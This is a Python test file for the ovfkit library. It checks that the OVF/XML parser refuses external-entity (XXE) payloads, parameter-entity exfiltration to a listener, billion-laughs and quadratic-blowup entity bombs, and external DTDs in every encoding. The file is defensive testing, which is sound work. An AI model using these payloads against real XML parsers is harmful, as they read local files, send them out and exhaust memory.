"""External entities, parameter entities, entity expansion bombs and external DTDs, in every encoding.

Each case references the canary file and the loopback listener. Through every entry point, each must
end in ``OvfSecurityError`` (``OvfParseError`` for EBCDIC, which is not read at all), quickly, with
nothing read or fetched and the canary's token nowhere.
"""

from __future__ import annotations

from pathlib import Path

import pytest

import ovfkit
from tests.helpers import assert_same_document
from tests.unit.xmlio.encodings import ENCODINGS, REFUSED_AS_UNSUPPORTED
from tests.unit.xmlio.hostile import Trap, assert_refused, envelope, everywhere


def _laughs(levels: int) -> str:
    entities = ['<!ENTITY lol0 "lol">']
    for level in range(1, levels + 1):
        entities.append(f'<!ENTITY lol{level} "' + f"&lol{level - 1};" * 10 + '">')
    return "<!DOCTYPE Envelope [" + "".join(entities) + "]>\n"


def _quadratic(size: int, references: int) -> tuple[str, str]:
    return f'<!DOCTYPE Envelope [<!ENTITY a "{"A" * size}">]>\n', "&a;" * references


#: name -> (DOCTYPE and anything else before the root, the Info text that uses the entities)
CASES: dict[str, tuple[str, str]] = {
    "external-entity-file-url": ('<!DOCTYPE Envelope [<!ENTITY xxe SYSTEM "{canary_url}">]>\n', "&xxe;"),
    "external-entity-absolute-path": (
        '<!DOCTYPE Envelope [<!ENTITY xxe SYSTEM "{canary_path}">]>\n',
        "&xxe;",
    ),
    "external-entity-relative-path": ('<!DOCTYPE Envelope [<!ENTITY xxe SYSTEM "{canary_rel}">]>\n', "&xxe;"),
    "external-entity-http": ('<!DOCTYPE Envelope [<!ENTITY xxe SYSTEM "{http}/entity">]>\n', "&xxe;"),
    "external-entity-public-id": (
        '<!DOCTYPE Envelope [<!ENTITY xxe PUBLIC "-//ovfkit//hostile//EN" "{http}/public">]>\n',
        "&xxe;",
    ),
    "parameter-entity-file-url": ('<!DOCTYPE Envelope [<!ENTITY % p SYSTEM "{canary_url}"> %p;]>\n', "x"),
    "parameter-entity-http": ('<!DOCTYPE Envelope [<!ENTITY % p SYSTEM "{http}/p.dtd"> %p;]>\n', "x"),
    "parameter-entity-exfiltration": (
        '<!DOCTYPE Envelope [<!ENTITY % data SYSTEM "{canary_url}">'
        "<!ENTITY % send \"<!ENTITY &#x25; leak SYSTEM '{http}/?d=%data;'>\"> %send; %leak;]>\n",
        "x",
    ),
    "external-dtd-file-url": ('<!DOCTYPE Envelope SYSTEM "{dtd_url}">\n', "&leak;"),
    "external-dtd-relative-path": ('<!DOCTYPE Envelope SYSTEM "{dtd_rel}">\n', "&leak;"),
    "external-dtd-http": ('<!DOCTYPE Envelope SYSTEM "{http}/ovf.dtd">\n', "&leak;"),
    "external-dtd-public": (
        '<!DOCTYPE Envelope PUBLIC "-//ovfkit//hostile//EN" "{http}/public.dtd">\n',
        "&leak;",
    ),
    "external-dtd-and-internal-subset": (
        '<!DOCTYPE Envelope SYSTEM "{dtd_url}" [<!ENTITY % p SYSTEM "{http}/p"> %p;]>\n',
        "&leak;",
    ),
    "billion-laughs": (_laughs(9), "&lol9;"),
    "billion-laughs-below-1mb": (_laughs(5), "&lol5;"),
    "quadratic-blowup": _quadratic(50_000, 2_000),
    "quadratic-blowup-below-1mb": _quadratic(10_000, 90),
    "doctype-without-subset": ("<!DOCTYPE Envelope>\n", "x"),
    "doctype-lowercase": ('<!doctype Envelope [<!ENTITY xxe SYSTEM "{canary_url}">]>\n', "&xxe;"),
    "doctype-after-tricky-prolog": (
        '<?pi a > b?>\n<!-- > <!DOCTYPE -->\n<!DOCTYPE Envelope [<!ENTITY xxe SYSTEM "{canary_url}">]>\n',
        "&xxe;",
    ),
}


def hostile(trap: Trap, case: str, encoding: str) -> bytes:
    """The bytes of one case in one encoding, referencing this test's canary and listener."""
    head, info = CASES[case]
    return ENCODINGS[encoding](trap.fill(envelope(head=head, info=info)))


@pytest.mark.parametrize("encoding", ENCODINGS)
@pytest.mark.parametrize("case", CASES)
def test_doctype_is_refused_everywhere(
    case: str, encoding: str, trap: Trap, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    data = hostile(trap, case, encoding)
    outcomes = everywhere(data, tmp_path)
    if encoding in REFUSED_AS_UNSUPPORTED:
        assert_refused(outcomes, ovfkit.OvfParseError)
    else:
        assert_refused(outcomes, ovfkit.OvfSecurityError)
    captured = capsys.readouterr()
    trap.assert_clean(*(outcome.error for outcome in outcomes), captured.out, captured.err)
    assert sorted(p.name for p in tmp_path.iterdir()) == [
        "canary.dtd",
        "canary.txt",
        "hostile.ova",
        "hostile.ovf",
    ]


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16-le-bom", "utf-16-be-no-bom", "utf-32-le-bom"])
def test_doctype_refusal_names_the_doctype_position(encoding: str, trap: Trap, tmp_path: Path) -> None:
    data = hostile(trap, "external-entity-file-url", encoding)
    for outcome in everywhere(data, tmp_path):
        assert isinstance(outcome.error, ovfkit.OvfSecurityError)
        assert "DOCTYPE" in str(outcome.error)
        assert (outcome.error.line, outcome.error.column) == (2, 1)


@pytest.mark.parametrize("reference", ["&xxe;", "&lol9;", "&leak;", "<x:a xmlns:x='urn:x' b='&xxe;'/>"])
def test_entity_reference_without_a_doctype_is_a_located_parse_error(
    reference: str, trap: Trap, tmp_path: Path
) -> None:
    data = envelope(info=reference).encode()
    outcomes = everywhere(data, tmp_path)
    assert_refused(outcomes, ovfkit.OvfParseError, mentions="not defined")
    for outcome in outcomes:
        assert not isinstance(outcome.error, ovfkit.OvfSecurityError)
        assert outcome.error is not None and outcome.error.line == 5
    trap.assert_clean(*(outcome.error for outcome in outcomes))


def test_predefined_and_character_references_still_read(trap: Trap, tmp_path: Path) -> None:
    data = envelope(info="a &lt;b&gt; &amp; &quot;c&quot; &apos;d&apos; &#233;&#x263A;").encode()
    for outcome in everywhere(data, tmp_path):
        assert outcome.error is None
        system = outcome.model.virtual_systems()[0]
        assert system.info.value == "a <b> & \"c\" 'd' \u00e9\u263a"
        assert_same_document(data, ovfkit.dumps(outcome.model))


def test_the_trap_catches_a_leak(trap: Trap) -> None:
    """A control: a careless parser does leak the canary, and a fetch does reach the listener.

    (This libxml2 has no HTTP client at all, so the listener is proved with urllib.)
    """
    import urllib.request

    from lxml import etree

    careless = etree.XMLParser(resolve_entities=True, load_dtd=True, no_network=False)
    leaked = etree.fromstring(hostile(trap, "external-entity-file-url", "utf-8"), careless)
    with pytest.raises(AssertionError):
        trap.canary.assert_absent(etree.tostring(leaked))
    with urllib.request.urlopen(trap.listener.url + "/probe", timeout=5) as response:
        assert response.read() == b'<!ENTITY leak "served">'
    with pytest.raises(AssertionError):
        trap.listener.assert_untouched()
    assert trap.listener.paths == ["/probe"]
    trap.listener.connections.clear()  # the fixture's own last check must pass
